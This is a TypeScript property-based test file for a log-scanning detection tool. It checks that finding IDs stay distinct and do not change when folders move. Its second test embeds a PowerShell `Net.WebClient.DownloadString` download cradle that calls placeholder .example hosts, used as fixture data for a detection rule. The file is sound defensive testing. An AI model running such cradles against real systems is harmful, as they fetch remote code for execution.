// Ids of findings: distinct where the evidence is, and equal where only the folder was moved.
import { cpSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'

import fc from 'fast-check'
import { afterAll, describe, expect, it } from 'vitest'

import { scanPaths } from './conformance/run.ts'
import { pipeRules } from './tools/pipe-rules.ts'

const root = mkdtempSync(join(tmpdir(), 'ipcwatch-identity-'))
afterAll(() => rmSync(root, { recursive: true, force: true }))

const rules = join(root, 'rules.yml')
writeFileSync(rules, pipeRules)

interface Pipe {
  readonly second: number
  readonly image: string
}

/** Folders of hosts, all with logs of the same names. */
const trees = fc.dictionary(
  fc.stringMatching(/^[a-z]{3,6}$/),
  fc.dictionary(
    fc.constantFrom('sysmon.jsonl', 'events.jsonl'),
    fc.array(
      fc.record({
        second: fc.nat({ max: 59 }),
        image: fc.constantFrom('a', 'b'),
      }),
      { minLength: 1, maxLength: 5 },
    ),
    { minKeys: 1, noNullPrototype: true },
  ),
  { minKeys: 1, maxKeys: 4, noNullPrototype: true },
)

function write(tree: Record<string, Record<string, readonly Pipe[]>>): string {
  const dir = mkdtempSync(join(root, 'tree-'))
  for (const [host, files] of Object.entries(tree)) {
    mkdirSync(join(dir, host))
    for (const [name, pipes] of Object.entries(files)) {
      const lines = pipes.map((p) => JSON.stringify(record(host, p)))
      writeFileSync(join(dir, host, name), `${lines.join('\n')}\n`)
    }
  }
  return dir
}

function record(host: string, { second, image }: Pipe) {
  return {
    EventID: 17,
    Channel: 'Microsoft-Windows-Sysmon/Operational',
    Provider_Name: 'Microsoft-Windows-Sysmon',
    Computer: host,
    UtcTime: `2026-01-01 10:00:${String(second).padStart(2, '0')}.000`,
    Image: `C:\\${image}.exe`,
    PipeName: '\\made',
  }
}

async function ids(dir: string): Promise<string[]> {
  const { findings } = await scanPaths([dir], {
    rules: { paths: [rules], builtin: false },
  })
  return findings.map((f) => f.id).sort()
}

describe('identity of findings', () => {
  it('is distinct where evidence is, and does not depend on the folder', () =>
    fc.assert(
      fc.asyncProperty(trees, async (tree) => {
        const dir = write(tree)
        const here = await ids(dir)
        const files = Object.values(tree).flatMap((f) => Object.values(f))
        expect(here.length).toBeGreaterThanOrEqual(files.flat().length)
        expect(new Set(here).size).toBe(here.length)
        const copy = mkdtempSync(join(root, 'moved-'))
        cpSync(dir, join(copy, 'deep', 'er'), { recursive: true })
        expect(await ids(copy)).toEqual(here)
      }),
      { numRuns: 25, seed: 1 },
    ))

  it('is distinct where one record tells of several actions of a script', async () => {
    const dir = mkdtempSync(join(root, 'actions-'))
    const fetched = ['a', 'b'].map(
      (host) =>
        `(New-Object Net.WebClient).DownloadString('http://${host}.example/x')`,
    )
    const block = {
      EventID: 4104,
      Channel: 'Microsoft-Windows-PowerShell/Operational',
      Provider_Name: 'Microsoft-Windows-PowerShell',
      Computer: 'h',
      TimeCreated: '2026-01-01T10:00:00.000Z',
      ScriptBlockId: 'b1',
      MessageNumber: 1,
      MessageTotal: 1,
      ScriptBlockText: fetched.join('; '),
    }
    writeFileSync(join(dir, 'log.jsonl'), `${JSON.stringify(block)}\n`)
    const asked = join(root, 'actions.yml')
    writeFileSync(
      asked,
      `title: connects
id: 6c5a7d44-98a1-4a4e-9a0f-1f5f6c1a9b21
logsource: { category: script_action }
detection: { it: { ActionKind: connect }, condition: it }
level: low
`,
    )
    const { findings } = await scanPaths([dir], {
      rules: { paths: [asked], builtin: false },
    })
    expect(findings.length).toBe(2)
    expect(new Set(findings.map((f) => f.id)).size).toBe(2)
  })
})
